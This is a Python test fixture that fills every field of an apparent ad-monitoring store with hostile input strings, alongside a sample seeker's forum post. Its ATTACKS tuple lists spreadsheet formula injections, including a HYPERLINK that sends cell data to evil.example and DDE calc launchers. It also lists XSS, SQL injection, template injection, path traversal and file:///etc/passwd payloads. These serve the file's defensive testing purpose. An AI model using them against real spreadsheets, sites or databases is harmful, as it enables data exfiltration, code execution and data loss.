"""A store whose every field from outside is an attack; and what attacks look like."""

from __future__ import annotations

from datetime import UTC, datetime

from core.store import Store
from core.types import Capture, ContactKind, ContactPoint, Document, Judgement, Lead, Provenance, SiteContext, Span

NOW = datetime(2026, 11, 20, 22, 30, tzinfo=UTC)
RATER = "model:stack@4f2c81d09ab3"
ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "＝1+1", "\u200b=1+1", "http://evil.example/x", "mailto:zq0@evil.example", "file:///etc/passwd", "../../../tmp/zq0evil", "/etc/zq0evil",
    '"><script>alert(1)</script><img src=x onerror=alert(1)>', "{{ 7*7 }}${7*7}<%= 7*7 %>", '";=1+1;"', "a,b\r\n=1+1,c", "\u202eevil\u2066", "\x00\x1b[2J", "_x003D_1",
    "'; DROP TABLE documents; --", "0012345678901234567890", "1e5", "2026-11-20", "TRUE", "| a | [x](javascript:alert(1)) `", "\u2028=1", "\ud800a\ufffe\uffff", "x" * 40_000,
)  # fmt: skip
SECRET = "我五周了想问问要带什么证件"  # what a seeker wrote


def hostile(*attacks: str) -> Store:
    """For each attack a lead with an advert, contacts and judgements, all of whose strings are the attack; and a seeker's document."""
    store = Store.in_memory()
    run = store.runs.start("crawl", NOW, {})
    for number, attack in enumerate(attacks):
        _attacked(store, run, number, attack)
    asks = Document("forum", "2", "https://forum.example/t/zq0asks", "post", SECRET, SECRET, "zq0mama", source="forum")
    asker, _ = store.documents.add(asks, NOW, run)
    seeker = Judgement("seeker", False, 0.05, RATER, {"seeker": 0.9}, (Span(0, len(SECRET), SECRET, "asks"),))
    store.judgements.add([(asker, 1, seeker)], NOW)
    return store


def _attacked(store: Store, run: int, number: int, attack: str) -> None:
    capture = f"urn:uuid:{number}"
    store.captures.add(
        Capture(
            capture, attack, attack, NOW, 200, attack, "ab" * 32, 9, attack, 0, attack, Provenance.LIVE, run, attack
        )
    )
    site = SiteContext(attack, (attack,), attack, attack, attack)
    advert = Document(
        attack, attack, attack, attack, attack, attack, attack, NOW, attack, site, (attack,), (), attack, capture, attack, {attack: attack}
    )  # fmt: skip
    id, _ = store.documents.add(advert, NOW, run)
    said = Judgement("fetal_sex_test_ad", True, 0.93, RATER, {attack: 0.5}, (Span(0, 1, attack, attack),))
    person = Judgement(attack, True, 0.5, f"person:{attack}", {attack: 0.5}, (Span(0, 1, attack, attack),))
    store.judgements.add([(id, 1, said), (id, 1, person)], NOW)
    kinds = (ContactKind.WECHAT, ContactKind.URL, ContactKind.EMAIL)
    store.contact_points.add(
        id, 1, [ContactPoint(kind, attack, attack, 0, 1, (attack,)) for kind in kinds], flagged=True
    )
    name = f"L{number:010x}"
    contacts = (("wechat", attack), (attack, attack))
    store.leads.put(
        Lead(name, "fetal_sex_test_ad", attack, (id,), contacts, 0.7, (attack, attack), NOW, NOW), {id: attack}, NOW
    )
    store.leads.add_event(name, "new", {"documents": [id], attack: attack}, NOW)
